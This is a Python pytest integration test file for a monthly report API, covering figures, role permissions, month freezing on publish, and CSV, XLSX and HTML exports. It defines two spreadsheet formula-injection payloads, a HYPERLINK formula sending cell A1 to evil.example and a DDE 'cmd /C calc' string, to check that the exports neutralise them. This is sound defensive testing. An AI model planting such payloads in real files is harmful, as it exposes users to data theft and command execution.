"""`GET /api/v1/reports/monthly` and `POST .../publish` on SQLite and PostgreSQL.

The hand-written histories of tests/fixtures/monthly are stored through the ticket storage
layer, as the gateway and the API write them; the report over HTTP must give the hand-worked
figures. A published month is frozen; spreadsheets never carry a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
import yaml
from openpyxl import load_workbook
from unit.test_monthly_report import FIXTURES, load_histories, load_reports

from integration.test_api import Api
from linli.reports.monthly import Month
from linli.reports.store import compute
from linli.site import builtin_site_path, load_site
from linli.storage import ResidentReport, TicketRow
from linli.storage.tickets import append_event
from linli.tickets import EventType, TicketEvent

MONTHLY = "/api/v1/reports/monthly"
HOSTILE_TITLE = "=HYPERLINK(\"http://evil.example/\"&A1)"
HOSTILE_SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def seeded(api: Api) -> dict[int, int]:
    """The fixture's tickets and residents' reports in the database: fixture id -> stored id."""
    doc = yaml.safe_load((FIXTURES / "tickets.yaml").read_text(encoding="utf-8"))
    ids: dict[int, int] = {}
    with api.db.session() as session:
        for history in load_histories(doc):
            row: TicketRow | None = None
            for event in history.events:
                row = append_event(session, row, event)
            assert row is not None
            ids[history.id] = row.id
        for n, entry in enumerate(load_reports(doc)):
            session.add(ResidentReport(
                id=f"report-{n}", site="wanmei", category="streetlight", description="灯不亮", source=entry.source,
                ticket_id=ids[entry.ticket_id] if entry.ticket_id else None, created_at=entry.at.astimezone(UTC),
            ))
    return ids


@pytest.fixture
def expected() -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load((FIXTURES / "expected.yaml").read_text(encoding="utf-8"))
    return doc


def get(api: Api, headers: dict[str, str], **params: Any) -> Any:
    return api.client.get(MONTHLY, params={"site": "wanmei", "month": "2026-03", **params}, headers=headers)


def publish(api: Api, headers: dict[str, str], month: str = "2026-03") -> Any:
    return api.client.post(f"{MONTHLY}/publish", params={"site": "wanmei", "month": month}, headers=headers)


def test_the_report_gives_the_hand_worked_figures(api: Api, seeded: dict[int, int], expected: dict[str, Any]) -> None:
    manager = api.user("li", "manager")
    response = get(api, manager)
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["site"], report["month"], report["frozen"]) == ("wanmei", "2026-03", False)
    assert report["period"] == expected["period"]
    want = expected["figures"]
    for key in ("opened", "carried_in", "closed", "cancelled", "open_at_end", "resolved", "reopened",
                "reopen_rate_pct", "repeat_faults", "resident_reports", "ack", "fix"):
        assert report["figures"][key] == want[key], key
    assert [p["ticket_id"] for p in report["problems"]] == [seeded[i] for i in expected["problems"]]
    assert report["problems"][4]["opened_at"] == "2026-03-01T00:30:00+08:00"  # ticket 3, in the site's zone


def test_who_may_read_and_publish(api: Api, seeded: dict[int, int]) -> None:
    grid = api.user("zhao", "grid_officer", teams=("grid",))
    assert get(api, grid).status_code == 200
    assert publish(api, grid).status_code == 403
    for role in ("technician", "viewer"):
        assert get(api, api.user(f"u-{role}", role)).status_code == 403
    other_site = api.user("chen", "manager", sites=("site-b",))
    assert get(api, other_site).status_code == 404
    assert publish(api, other_site).status_code == 404
    assert get(api, api.admin, site="nowhere").status_code == 404
    bad = get(api, api.admin, month="2026-3")
    assert bad.status_code == 400 and "YYYY-MM" in bad.json()["detail"]
    assert get(api, api.admin, format="pdf").status_code == 422
    assert api.client.get(MONTHLY, params={"site": "wanmei", "month": "2026-03"}).status_code == 401


def _hostile_ticket(api: Api) -> None:
    """A grid officer's report whose place and title someone typed as formulas."""
    at = datetime(2026, 3, 9, 2, 0, tzinfo=UTC)
    data = {
        "site": "wanmei", "subject_type": "place", "subject_id": HOSTILE_SUBJECT, "fault": "safety_hazard",
        "severity": "P3", "teams": ["grid"], "source": "grid_officer", "device_ids": [], "title": HOSTILE_TITLE,
        "ack_due_at": "2026-03-10T02:00:00+00:00", "start_due_at": None, "resolve_due_at": "2026-03-16T02:00:00+00:00",
    }
    with api.db.session() as session:
        append_event(session, None, TicketEvent(EventType.OPENED, at, "zhao", "发现隐患", data))


def test_csv_and_xlsx_carry_no_formula(api: Api, seeded: dict[int, int]) -> None:
    _hostile_ticket(api)
    response = get(api, api.admin, format="csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="linli-wanmei-2026-03.csv"' in response.headers["content-disposition"]
    assert response.content.startswith("\ufeff".encode())
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    assert "'" + HOSTILE_TITLE in cells and "'" + HOSTILE_SUBJECT in cells
    assert HOSTILE_TITLE not in cells and HOSTILE_SUBJECT not in cells
    assert "问题清单" in cells and "整改清单" in cells

    book = load_workbook(io.BytesIO(get(api, api.admin, format="xlsx", lang="en").content))
    assert book.sheetnames == ["Figures", "Problems", "Responsibilities", "Rectifications"]
    cells_x = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells_x if c.data_type == "f"]
    values = {c.value for c in cells_x}
    assert "'" + HOSTILE_TITLE in values and "'" + HOSTILE_SUBJECT in values


def test_the_printable_page(api: Api, seeded: dict[int, int]) -> None:
    _hostile_ticket(api)
    page = get(api, api.admin, format="html")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in page.headers["content-security-policy"]
    text = page.text
    assert "问题清单" in text and "责任清单" in text and "整改清单" in text and "湾美社区" in text
    assert "<script" not in text
    english = get(api, api.admin, format="html", lang="en").text
    assert "Rectifications" in english and '<html lang="en">' in english


def test_a_published_month_is_frozen(api: Api, seeded: dict[int, int]) -> None:
    manager = api.user("li", "manager")
    assert get(api, manager).json()["figures"]["cancelled"] == 2
    assert publish(api, manager, "2026-11").status_code == 409  # the clock is in November: not ended

    published = publish(api, manager)
    assert published.status_code == 201, published.text
    body = published.json()
    assert (body["frozen"], body["published_by"]) == (True, "li")
    assert body["figures"]["cancelled"] == 2

    # Ticket 18 is cancelled with a time inside March (a late entry), and a ticket is opened in March.
    with api.db.session() as session:
        row = session.get(TicketRow, seeded[18])
        assert row is not None
        append_event(session, row, TicketEvent(EventType.CANCELLED, datetime(2026, 3, 30, 2, 0, tzinfo=UTC), "li", "duplicate"))
    _hostile_ticket(api)
    with api.db.session() as session:  # the live computation sees the changes ...
        live = compute(session, load_site(builtin_site_path()), Month.parse("2026-03"), api.clock.now())
    assert (live["figures"]["cancelled"], live["figures"]["opened"]) == (3, 16)

    frozen = get(api, api.user("zhao", "grid_officer", teams=("grid",))).json()  # ... the meeting's copy does not
    assert frozen == body
    csv_text = get(api, manager, format="csv").content.decode("utf-8-sig")
    assert HOSTILE_SUBJECT not in csv_text and "'" + HOSTILE_SUBJECT not in csv_text

    again = publish(api, api.admin)
    assert again.status_code == 409 and "already published" in again.json()["detail"]
    assert get(api, manager).json() == body
    # another month is computed as usual
    assert get(api, manager, month="2026-02").json()["frozen"] is False

